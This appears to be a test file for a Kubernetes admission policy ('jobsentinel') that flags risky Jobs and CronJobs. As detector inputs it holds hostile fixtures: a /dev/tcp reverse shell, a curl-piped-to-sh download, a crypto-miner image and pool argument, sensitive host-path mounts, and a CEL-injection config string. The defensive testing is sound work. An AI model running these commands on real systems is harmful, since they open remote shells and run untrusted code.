/**
 * The compiled policy's tuning, actions and command approximations, evaluated on @bufbuild/cel: what a
 * config switches off or exempts must pass, and what it leaves on must still be caught next door.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseConfig, type JobSentinelConfig } from '../src/index.js';
import { compilePolicy } from '../src/entries/policy.js';
import { MAX_NORMALISED_SEGMENTS, normalisedSegmentsCel } from '../src/policy/host-path-cel.js';
import { evaluate, violations } from './policy-cel-harness.js';

/** The normalised path, as the policy's segments spell it. */
const normalisedPathCel = (p: string) => `'/' + ${normalisedSegmentsCel(p)}.join('/')`;

function config(yaml: string): JobSentinelConfig {
  const parsed = parseConfig(yaml, '.jobsentinel.yaml');
  assert.deepEqual(parsed.errors, []);
  return parsed.config;
}

function job(pod: Record<string, unknown>, namespace = 'default') {
  return { object: { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j', namespace }, spec: { template: { spec: { restartPolicy: 'Never', ...pod } } } }, namespace };
}

function cronJob(pod: Record<string, unknown>, namespace = 'default') {
  return {
    object: { apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'c', namespace }, spec: { schedule: '* * * * *', jobTemplate: { spec: { template: { spec: pod } } } } },
    namespace,
  };
}

const PRIVILEGED_ALPINE = { containers: [{ name: 'a', image: 'alpine:3.20', securityContext: { privileged: true } }] };

describe('jobsentinel policy: the compiled CEL', () => {
  const policy = compilePolicy();

  it('reads the pod spec at the CronJob path and at the Job path', () => {
    assert.deepEqual(violations(policy, cronJob(PRIVILEGED_ALPINE)), ['attacker-tooling', 'privileged-container']);
    assert.deepEqual(violations(policy, job(PRIVILEGED_ALPINE)), ['attacker-tooling', 'privileged-container']);
    assert.deepEqual(violations(policy, job({ containers: [{ name: 'a', image: 'acme/app:1' }] })), []);
  });

  it('counts Windows hostProcess, on a container or the pod, as privileged', () => {
    const windows = { hostProcess: true, runAsUserName: 'NT AUTHORITY\\SYSTEM' };
    assert.deepEqual(violations(policy, job({ containers: [{ name: 'a', image: 'acme/w', securityContext: { windowsOptions: windows } }] })), ['privileged-container']);
    assert.deepEqual(violations(policy, job({ securityContext: { windowsOptions: windows }, hostNetwork: true, containers: [{ name: 'a', image: 'acme/w' }] })), ['privileged-container', 'host-network']);
    assert.deepEqual(violations(policy, job({ containers: [{ name: 'a', image: 'acme/w', securityContext: { windowsOptions: { hostProcess: false } } }] })), []);
  });

  it('normalises host paths exactly, `..` included', () => {
    const cases: Array<[string, string]> = [
      ['//var/./run//docker.sock/', '/var/run/docker.sock'],
      ['/a/b/../../c/../..', '/'],
      ['/data/../etc/shadow', '/etc/shadow'],
      ['relative/./x/', '/relative/x'],
      ['/a/b/../c/./d/../e', '/a/c/e'],
      ['..', '/'],
      ['/', '/'],
    ];
    for (const [input, expected] of cases) assert.equal(evaluate(normalisedPathCel('p'), { p: input }), expected, input);
  });

  it('judges the volume path, which a subPath can only go deeper under', () => {
    const mount = (subPath: string, path: string) =>
      job({ containers: [{ name: 'a', image: 'acme/app', volumeMounts: [{ name: 'host', mountPath: '/h', subPath }] }], volumes: [{ name: 'host', hostPath: { path } }] });
    assert.deepEqual(violations(policy, mount('docker.sock', '/var/run')), ['host-path-mount', 'sensitive-mount']);
    assert.deepEqual(violations(policy, mount('cache', '/srv/data')), ['host-path-mount']);
  });

  it('normalises a long path with `..` only up to its bound, and then counts it as sensitive', () => {
    const long = '/srv' + '/x'.repeat(MAX_NORMALISED_SEGMENTS) + '/..';
    assert.equal(evaluate(normalisedPathCel('p'), { p: long }), '/');
    assert.equal(evaluate(normalisedPathCel('p'), { p: '/srv' + '/x'.repeat(MAX_NORMALISED_SEGMENTS) }), '/srv' + '/x'.repeat(MAX_NORMALISED_SEGMENTS));
  });

  it('approximates shell-escape and tool invocations from command and args, and says so in the message', () => {
    const pod = { containers: [{ name: 'a', image: 'acme/app', command: ['/bin/sh', '-c'], args: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'] }] };
    assert.deepEqual(violations(policy, job(pod)), ['shell-escape']);
    const curl = { containers: [{ name: 'a', image: 'acme/app', command: ['sh', '-c', 'curl -fsS http://x/i.sh | sh'] }] };
    assert.deepEqual(violations(policy, job(curl)), ['attacker-tooling', 'shell-escape']);
    const honest = { containers: [{ name: 'a', image: 'acme/app', command: ['/app/report', '--format=superlative'], env: [{ name: 'TOOL', value: 'curl' }] }] };
    assert.deepEqual(violations(policy, job(honest)), []);
    const message = policy.validations.find((validation) => validation.indicator === 'shell-escape')!.message;
    assert.match(message, /^jobsentinel shell-escape \(error\): .*approximated.*docs\/indicators\.md#shell-escape$/);
  });

  it('says which indicators are approximated and which have no CEL form', () => {
    assert.ok(policy.approximated.includes('shell-escape'));
    assert.ok(policy.approximated.includes('attacker-tooling'));
    assert.ok(!policy.approximated.includes('privileged-container'));
  });

  it('defaults to Warn and Audit, takes Deny, and refuses Deny with Warn', () => {
    assert.deepEqual((policy.binding.spec as { validationActions: string[] }).validationActions, ['Warn', 'Audit']);
    assert.deepEqual((compilePolicy({ actions: ['Deny'] }).binding.spec as { validationActions: string[] }).validationActions, ['Deny']);
    assert.throws(() => compilePolicy({ actions: ['Deny', 'Warn'] }), /Deny and Warn/);
  });
});

describe('jobsentinel policy: tuning compiled in', () => {
  it('drops a validation switched off, and the extended ones under profile seed', () => {
    const off = compilePolicy({ config: config('severity:\n  attacker-tooling: off\n') });
    assert.ok(!off.validations.some((validation) => validation.indicator === 'attacker-tooling'));
    assert.deepEqual(violations(off, job(PRIVILEGED_ALPINE)), ['privileged-container']);
    const seed = compilePolicy({ config: config('profile: seed\n') });
    assert.ok(!seed.validations.some((validation) => validation.indicator === 'host-pid'));
    assert.deepEqual(violations(seed, job({ hostPID: true, containers: [{ name: 'a', image: 'acme/app' }] })), []);
  });

  it('turns a namespace-only ignore into a match condition, globs and all', () => {
    const tuned = compilePolicy({ config: config('ignore:\n  - namespaces: ["ci", "build-*"]\n') });
    assert.equal((tuned.policy.spec as { matchConditions: unknown[] }).matchConditions.length, 1);
    assert.deepEqual(violations(tuned, job(PRIVILEGED_ALPINE, 'build-42')), []);
    assert.deepEqual(violations(tuned, job(PRIVILEGED_ALPINE, 'ci')), []);
    assert.deepEqual(violations(tuned, job(PRIVILEGED_ALPINE, 'cicd')), ['attacker-tooling', 'privileged-container']);
  });

  it('exempts by image per container, and a pod-level indicator only when every image is covered', () => {
    const tuned = compilePolicy({
      config: config('ignore:\n  - indicators: [attacker-tooling]\n    images: ["alpine:*"]\n  - indicators: [host-path-mount]\n    images: ["fluent/fluent-bit*"]\n    namespaces: [logging]\n'),
    });
    assert.deepEqual(violations(tuned, job(PRIVILEGED_ALPINE)), ['privileged-container']);
    assert.deepEqual(violations(tuned, job({ containers: [{ name: 'a', image: 'alpine:3' }, { name: 'b', image: 'busybox' }] })), ['attacker-tooling']);
    const shipper = (images: string[], namespace: string) =>
      job({ containers: images.map((image, index) => ({ name: `c${index}`, image })), volumes: [{ name: 'logs', hostPath: { path: '/srv/logs' } }] }, namespace);
    assert.deepEqual(violations(tuned, shipper(['fluent/fluent-bit:3'], 'logging')), []);
    assert.deepEqual(violations(tuned, shipper(['fluent/fluent-bit:3'], 'default')), ['host-path-mount']);
    assert.deepEqual(violations(tuned, shipper(['fluent/fluent-bit:3', 'acme/sidecar'], 'logging')), ['host-path-mount']);
  });

  it('compiles custom images and custom patterns in, and leaves users entries out with a note', () => {
    const tuned = compilePolicy({
      config: config(
        'custom:\n  images: ["*xmrig*"]\n  patterns:\n    - id: pool-url\n      pattern: "pool\\\\.example\\\\.net"\n      severity: error\n' +
          'ignore:\n  - indicators: [attacker-tooling]\n    users: ["system:serviceaccount:security:scanner"]\n',
      ),
    });
    assert.deepEqual(violations(tuned, job({ containers: [{ name: 'a', image: 'evil/xmrig-proxy:1', args: ['-o', 'pool.example.net:3333'] }] })), ['attacker-tooling', 'pool-url']);
    assert.deepEqual(violations(tuned, job({ containers: [{ name: 'a', image: 'acme/app', args: ['--pool=poolXexample.net'] }] })), []);
    assert.equal(tuned.notes.length, 1);
    assert.match(tuned.notes[0]!, /users/);
  });

  it('quotes hostile config text so it cannot break out of a CEL string', () => {
    const tuned = compilePolicy({ config: config(`ignore:\n  - namespaces: ["a') || true || ('"]\n`) });
    assert.deepEqual(violations(tuned, job(PRIVILEGED_ALPINE, 'other')), ['attacker-tooling', 'privileged-container']);
  });
});
